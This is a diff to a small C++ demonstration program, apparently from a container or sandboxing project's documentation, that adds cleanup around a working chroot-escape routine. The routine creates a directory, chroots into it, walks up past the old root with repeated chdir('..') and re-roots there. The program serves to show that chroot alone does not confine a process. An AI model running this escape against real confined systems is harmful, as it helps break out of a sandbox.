@@ -12,6 +12,7 @@
 // in this mount namespace at all: the same walk stops at the container's "/".
 // Built static, so it runs in any root filesystem.
 
+#include <fcntl.h>
 #include <sys/stat.h>
 #include <unistd.h>
 
@@ -24,6 +25,8 @@ int main(int argc, char* argv[]) {
     (void)std::fprintf(stderr, "Usage: chroot-escape PATH\n");
     return 2;
   }
+  // Kept to remove the directory afterwards, from wherever we end up.
+  const int tmp = ::open("/tmp", O_DIRECTORY | O_CLOEXEC);
   //! [chroot-escape]
   ::mkdir("/tmp/.escape", 0700);
   if (::chroot("/tmp/.escape") == -1) {  // the current directory stays outside the new root
@@ -33,6 +36,7 @@ int main(int argc, char* argv[]) {
   for (int i = 0; i < 256; ++i) (void)::chdir("..");  // up, past the old root
   (void)::chroot(".");                                // and make that the root
   //! [chroot-escape]
+  (void)::unlinkat(tmp, ".escape", AT_REMOVEDIR);
   struct stat info {};
   if (::stat(argv[1], &info) == 0) {
     std::printf("escaped: %s is reachable\n", argv[1]);
